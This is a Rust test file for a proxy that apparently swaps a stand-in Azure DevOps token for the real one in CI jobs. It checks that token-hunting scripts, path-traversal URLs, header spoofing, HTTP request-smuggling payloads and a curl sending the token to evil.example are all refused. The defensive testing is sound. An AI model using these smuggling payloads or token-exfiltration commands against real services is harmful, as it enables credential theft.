//! A script that looks for the token, and requests for which a stand-in must not be replaced.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;

use adieu_emulator::Fault;
use expect_test::expect;

use super::{PROJECTS, RestOfJob, job, steady, world};

/// Sends bytes over TLS through the proxy with Python, for requests that no client sends.
const RAW: &str = r#"
import base64, os, socket, ssl, sys, urllib.parse
proxy = urllib.parse.urlparse(os.environ['HTTPS_PROXY'])
def connect(host):
    s = socket.create_connection((proxy.hostname, proxy.port))
    s.sendall(f'CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n'.encode())
    head = b''
    while not head.endswith(b'\r\n\r\n'):
        head += s.recv(1)
    assert b' 200 ' in head, head
    context = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
    context.verify_flags |= ssl.VERIFY_X509_STRICT
    return context.wrap_socket(s, server_hostname=host)
def whole(answer):
    head, end, body = answer.partition(b'\r\n\r\n')
    lines = head.lower().split(b'\r\n')
    lengths = [int(line.split(b':')[1]) for line in lines if line.startswith(b'content-length:')]
    return bool(end) and len(body) >= lengths[0] and (head, body[lengths[0]:])
def ask(request, count=1, host='dev.azure.com'):
    s = connect(host)
    s.sendall(request.replace('TOKEN', os.environ['AZURE_DEVOPS_TOKEN']).encode('latin-1'))
    answer, rest = b'', b''
    while count:
        piece = s.recv(65536)
        answer, rest = answer + piece, rest + piece
        while count and whole(rest):
            rest, count = whole(rest)[1], count - 1
        if not piece: break
    return answer.decode('latin-1')
A = 'Authorization: Bearer TOKEN\r\n'
H = 'Host: dev.azure.com\r\n'
"#;

fn python(rest: &RestOfJob<'_>, lines: &str) -> String {
    let output = rest
        .command("python3")
        .args(["-c", &format!("{RAW}{lines}")])
        .output();
    super::output_text(rest.world, &output.expect("Python"))
}

#[test]
fn a_script_that_looks_everywhere_finds_only_the_stand_in() {
    let world = world();
    let rest = RestOfJob::of(&world, job(&world, None), &[]);
    let script = format!(
        "env; cat $(env | grep -o '/[^ =]*adieu-roots-[^ ]*'); cat \"$AGENT_TEMPDIRECTORY\"/* 2>&1; \
         curl -sSv -u \":$AZURE_DEVOPS_TOKEN\" '{PROJECTS}' 2>&1; \
         for process in /proc/[0-9]*; do if grep -qs stand-ins $process/cmdline; then \
         tr '\\0' '\\n' < $process/cmdline; fi; done"
    );
    let text = rest.script(&script);
    assert!(text.contains("adieu-stand-in-"), "{text}");
    assert!(text.contains("\"name\":\"hello\""), "{text}");
    assert!(text.contains("--stand-ins"), "{text}");
    rest.end();
}

#[test]
fn replaces_a_stand_in_for_named_organizations_only() {
    let world = world();
    let rest = RestOfJob::of(&world, job(&world, None), &[]);
    let curl = |more: &str, address: &str| {
        rest.script(&format!(
            "curl -sS --path-as-is -o - -w '%{{http_code}}\\n' -u \":$AZURE_DEVOPS_TOKEN\" {more} '{address}'"
        ))
    };
    let mut text = String::new();
    for (more, address) in [
        (
            "",
            "https://dev.azure.com/litware/fabrikam/_apis/git/repositories",
        ),
        (
            "",
            "https://dev.azure.com/contoso/../litware/fabrikam/_apis/git/repositories",
        ),
        (
            "",
            "https://dev.azure.com/contoso/%2e%2e/litware/fabrikam/_apis/git/repositories",
        ),
        ("-X TRACE", "https://dev.azure.com/contoso/_apis/projects"),
        (
            "-X POST -d '{}'",
            "https://vssps.dev.azure.com/contoso/_apis/tokens/pats?api-version=7.1-preview.1",
        ),
        (
            "-X POST -d '{}'",
            "https://vssps.dev.azure.com/contoso/_apis/Token/SessionTokens",
        ),
        (
            "-X POST -d '{}'",
            "https://vssps.dev.azure.com/contoso/_apis//tokens/pats",
        ),
        (
            "-X POST -d '{}'",
            "https://vssps.dev.azure.com/contoso/_apis/%u0074okens/pats",
        ),
        (
            "-X PATCH -d '[]'",
            "https://dev.azure.com/contoso/_apis/wit/$batch",
        ),
        ("", "https://dev.azure.com/contoso/_usersSettings/tokens"),
        (
            "-H 'X-Forwarded-Host: litware.visualstudio.com'",
            "https://dev.azure.com/contoso/_apis/projects",
        ),
        (
            "-H 'Host: litware.visualstudio.com'",
            "https://dev.azure.com/contoso/_apis/projects",
        ),
    ] {
        text.push_str(&curl(more, address));
    }
    expect![[r#"
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is replaced for the organization contoso only.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced in a path that servers can read in different ways.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced in a path that servers can read in different ways.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced in requests with this method.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced at addresses that issue credentials, which would outlive it.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced at addresses that issue credentials, which would outlive it.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced in a path that servers can read in different ways.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced in a path that servers can read in different ways.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is not replaced at addresses that issue credentials, which would outlive it.
        403
        adieu: the stand-in of AZURE_DEVOPS_TOKEN is replaced for the REST API, git, packages and Analytics only.
        403
        adieu: the request is refused: it has a header that replaces its method, host or path.
        400
        adieu: the request is refused: its host is not that of its connection.
        400
    "#]].assert_eq(&steady(&world, &text));
    assert!(world.git().requests().is_empty(), "a request was forwarded");
    expect![[r#"
        Requests with stand-ins:
        AZURE_DEVOPS_TOKEN: GET dev.azure.com/litware/fabrikam/_apis/git/repositories: refused
        AZURE_DEVOPS_TOKEN: GET dev.azure.com/contoso/../litware/fabrikam/_apis/git/repositories: refused
        AZURE_DEVOPS_TOKEN: GET dev.azure.com/contoso/%2e%2e/litware/fabrikam/_apis/git/repositories: refused
        AZURE_DEVOPS_TOKEN: TRACE dev.azure.com/contoso/_apis/projects: refused
        AZURE_DEVOPS_TOKEN: POST vssps.dev.azure.com/contoso/_apis/tokens/pats: refused
        AZURE_DEVOPS_TOKEN: POST vssps.dev.azure.com/contoso/_apis/Token/SessionTokens: refused
        AZURE_DEVOPS_TOKEN: POST vssps.dev.azure.com/contoso/_apis//tokens/pats: refused
        AZURE_DEVOPS_TOKEN: POST vssps.dev.azure.com/contoso/_apis/%u0074okens/pats: refused
        AZURE_DEVOPS_TOKEN: PATCH dev.azure.com/contoso/_apis/wit/$batch: refused
        AZURE_DEVOPS_TOKEN: GET dev.azure.com/contoso/_usersSettings/tokens: refused
        The job's credential endpoint is closed."#]].assert_eq(&steady(&world, &rest.end()));
}

/// TLS to every other host goes from end to end, and the stand-in is worthless there.
#[test]
fn tunnels_other_hosts_unchanged() {
    let mut world = world();
    world.expect_violations();
    let others = world.network_with_other_hosts();
    let mut job = world.job();
    job.variable("agent.proxyurl", &others.proxy().url());
    let rest = RestOfJob::of(&world, job, &[]);
    // The bundle has no root for that host, and the proxy's own certificate does not name it.
    let text = rest.script("curl -sS https://evil.example/ 2>&1; echo $?");
    expect![[r#"
        curl: (60) SSL certificate problem: unable to get local issuer certificate
        More details here: https://curl.se/docs/sslcerts.html

        curl failed to verify the legitimacy of the server and therefore could not
        establish a secure connection to it. To learn more about this situation and
        how to fix it, please visit the web page mentioned above.
        60
    "#]]
    .assert_eq(&text);
    let ca = world.ca_file().display().to_string();
    let text = rest.script(&format!(
        "curl -sS -o /dev/null -w '%{{http_code}}\\n' --cacert {ca} -H \"Authorization: Bearer $AZURE_DEVOPS_TOKEN\" https://evil.example/"
    ));
    expect![[r#"
        401
    "#]]
    .assert_eq(&text);
    assert_eq!(others.contacted_hosts(), ["evil.example"]);
    assert_eq!(
        world.violations(),
        ["evil.example, which is not emulated, was sent a credential"]
    );
    rest.end();
}

#[test]
fn refuses_requests_that_two_servers_could_read_differently() {
    let world = world();
    let rest = RestOfJob::of(&world, job(&world, None), &[]);
    let text = python(
        &rest,
        r#"
G = 'GET /contoso/fabrikam/_apis/git/repositories?api-version=7.1 HTTP/1.1\r\n'
E = 'GET /litware/fabrikam/_apis/git/repositories?api-version=7.1 HTTP/1.1\r\n'
def first(name, answer):
    lines = answer.split('\r\n')
    print(name + ':', lines[0], '|', lines[-1].strip()[-90:])
first('two lengths', ask('POST /contoso/_apis/x HTTP/1.1\r\n' + H + A + 'Content-Length: 1\r\nContent-Length: 100\r\n\r\n' + E + H + A + '\r\n'))
first('length and chunks', ask('POST /contoso/_apis/x HTTP/1.1\r\n' + H + A + 'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + E + H + A + '\r\n'))
first('folded', ask(G + H + 'X: 1\r\n ' + A + '\r\n'))
first('bare line feed', ask(G + H + 'X: 1\n' + A + '\r\n'))
first('two credentials', ask(G + H + A + 'Authorization: Basic eDp5\r\n\r\n'))
first('two hosts', ask(G + H + 'Host: litware.visualstudio.com\r\n' + A + '\r\n'))
first('absolute', ask('GET https://dev.azure.com/contoso HTTP/1.1\r\n' + H + A + '\r\n'))
first('http/0.9', ask('GET /contoso\r\n' + H + A + '\r\n'))
first('long', ask(G + H + 'X: ' + 70000 * 'a' + '\r\n' + A + '\r\n'))
first('bad chunk', ask('POST /contoso/_apis/x HTTP/1.1\r\n' + H + A + 'Transfer-Encoding: chunked\r\n\r\n-1\r\n' + E + H + A + '\r\n'))
first('trailer', ask('POST /contoso/_apis/x HTTP/1.1\r\n' + H + A + 'Transfer-Encoding: chunked\r\n\r\n0\r\n' + A + '\r\n'))
first('chunk extension', ask('POST /contoso/_apis/x HTTP/1.1\r\n' + H + A + 'Transfer-Encoding: chunked\r\n\r\n1;x\r\n' + E + H + A + '\r\n'))
first('websocket', ask('GET /contoso/_apis/x HTTP/1.1\r\n' + H + A + 'Connection: upgrade\r\nUpgrade: websocket\r\n\r\n'))
first('tunnel in the tunnel', ask('CONNECT evil.example:443 HTTP/1.1\r\n' + H + A + '\r\n'))
# Not a credential where it is not one.
first('in the address', ask('GET /contoso/fabrikam/_apis/git/repositories?api-version=7.1&token=TOKEN HTTP/1.1\r\n' + H + 'Connection: close\r\n\r\n'))
# Two at once: the first is answered, and the connection is cut at the second, which is refused behind it.
both = ask(G + H + A + '\r\n' + E + H + A + '\r\n', 2)
print('pipelined:', [line for line in both.split('\r\n') if line.startswith('HTTP/') or line.startswith('adieu')], 'hello' in both, 'secret' in both)
both = ask(G + H + A + '\r\n' + G + H + A + 'Connection: close\r\n\r\n', 2)
print('pipelined:', both.count('HTTP/1.1 200'), both.count('"name":"hello"'))
"#,
    );
    expect![[r#"
        two lengths: HTTP/1.1 400 Bad Request | adieu: the request is refused: it repeats a header that is allowed only once.
        length and chunks: HTTP/1.1 400 Bad Request | adieu: the request is refused: it has both a content length and a transfer encoding.
        folded: HTTP/1.1 400 Bad Request | adieu: the request is refused: it has an invalid header name.
        bare line feed: HTTP/1.1 400 Bad Request | adieu: the request is refused: it has control characters.
        two credentials: HTTP/1.1 400 Bad Request | adieu: the request is refused: it repeats a header that is allowed only once.
        two hosts: HTTP/1.1 400 Bad Request | adieu: the request is refused: it repeats a header that is allowed only once.
        absolute: HTTP/1.1 400 Bad Request | adieu: the request is refused: its host is not that of its connection.
        http/0.9: HTTP/1.1 400 Bad Request | adieu: the request is refused: its first line is incomplete.
        long: HTTP/1.1 400 Bad Request | adieu: the request is refused: its head is longer than 64 KiB.
        bad chunk: HTTP/1.1 400 Bad Request | adieu: the request is refused: the size of a chunk is missing.
        trailer: HTTP/1.1 400 Bad Request | adieu: the request is refused: it has headers after its last chunk.
        chunk extension: HTTP/1.1 400 Bad Request | adieu: the request is refused: the size of a chunk is missing.
        websocket: HTTP/1.1 400 Bad Request | adieu: the request is refused: it asks for another protocol.
        tunnel in the tunnel: HTTP/1.1 400 Bad Request | adieu: the request is refused: its host is not that of its connection.
        in the address: HTTP/1.1 302 Status | <html><head><title>Object moved</title></head></html>
        pipelined: ['HTTP/1.1 200 Status'] True False
        pipelined: 2 2
    "#]].assert_eq(&text);
    rest.end();
}

#[test]
fn cuts_off_an_answer_that_contains_the_token() {
    let world = world();
    let rest = RestOfJob::of(&world, job(&world, None), &[]);
    world
        .marketplace()
        .always(Fault::Bytes(std::sync::Arc::new(|request| {
            let token = request.header("Authorization").unwrap_or_default();
            format!(
                "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\nyou are {token}, are you not?"
            )
            .into_bytes()
        })));
    let text = python(
        &rest,
        "print('received:', repr(ask('GET /contoso/_apis/x HTTP/1.1\\r\\n' + H + A + '\\r\\n')))",
    );
    world.marketplace().recover();
    expect![[r#"
        received: ''
    "#]]
    .assert_eq(&text);
    expect![[r#"
        Requests with stand-ins:
        AZURE_DEVOPS_TOKEN: GET dev.azure.com/contoso/_apis/x: fresh token
        dev.azure.com: an answer contained a token and was cut off
        The job's credential endpoint is closed."#]]
    .assert_eq(&steady(&world, &rest.end()));
}

/// Every process of the machine can connect to the port, but needs the key for a tunnel.
#[test]
fn refuses_a_tunnel_without_the_key() {
    let world = world();
    let rest = RestOfJob::of(&world, job(&world, None), &[]);
    let url = &rest.environment["HTTPS_PROXY"];
    let (_, address) = url.rsplit_once('@').expect("a key");
    let ask = |request: &str| {
        let mut stream = TcpStream::connect(address).expect("a connection");
        stream.write_all(request.as_bytes()).expect("it is sent");
        let mut answer = String::new();
        stream.read_to_string(&mut answer).expect("an answer");
        answer.replace('\r', "")
    };
    let text = [
        ask("CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n"),
        ask("CONNECT example.org:443 HTTP/1.1\r\nHost: a\r\nProxy-Authorization: Basic YWRpZXU6eA==\r\n\r\n"),
        ask("GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n"),
        ask("GET /msi/token?resource=x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
        ask("CONNECT dev.azure.com HTTP/1.1\r\nHost: dev.azure.com\r\n\r\n"),
        ask("\u{16}\u{3}\u{1}\r\n\r\n"),
    ]
    .join("---\n");
    expect![[r#"
        HTTP/1.1 407 Proxy Authentication Required
        Content-Type: text/plain; charset=utf-8
        Content-Length: 71
        Proxy-Authenticate: Basic realm="adieu"
        Connection: close

        adieu: the proxy's key is missing or wrong; use HTTPS_PROXY unchanged.
        ---
        HTTP/1.1 407 Proxy Authentication Required
        Content-Type: text/plain; charset=utf-8
        Content-Length: 71
        Proxy-Authenticate: Basic realm="adieu"
        Connection: close

        adieu: the proxy's key is missing or wrong; use HTTPS_PROXY unchanged.
        ---
        HTTP/1.1 405 Method Not Allowed
        Content-Type: text/plain; charset=utf-8
        Content-Length: 80
        Allow: CONNECT
        Connection: close

        adieu: this proxy accepts only CONNECT, which clients send for https addresses.
        ---
        HTTP/1.1 405 Method Not Allowed
        Content-Type: text/plain; charset=utf-8
        Content-Length: 80
        Allow: CONNECT
        Connection: close

        adieu: this proxy accepts only CONNECT, which clients send for https addresses.
        ---
        HTTP/1.1 400 Bad Request
        Content-Type: text/plain; charset=utf-8
        Content-Length: 58
        Connection: close

        adieu: the request is refused: it names no host and port.
        ---
        HTTP/1.1 400 Bad Request
        Content-Type: text/plain; charset=utf-8
        Content-Length: 58
        Connection: close

        adieu: the request is refused: it has control characters.
    "#]]
    .assert_eq(&text);
    rest.end();
}

/// The proxy serves 256 connections at a time. Any process of the machine can open one, also to Azure DevOps.
#[test]
fn connections_without_a_stand_in_block_none_that_has_one() {
    let world = world();
    let rest = RestOfJob::of(&world, job(&world, None), &[]);
    let text = python(
        &rest,
        r#"
held = [connect('dev.azure.com') for _ in range(300)]
answer = ask('GET /contoso/fabrikam/_apis/git/repositories?api-version=7.1 HTTP/1.1\r\n' + H + A + 'Connection: close\r\n\r\n')
print(answer.split('\r\n')[0], 'hello' in answer)
"#,
    );
    assert_eq!(text, "HTTP/1.1 200 Status True\n");
    rest.end();
}
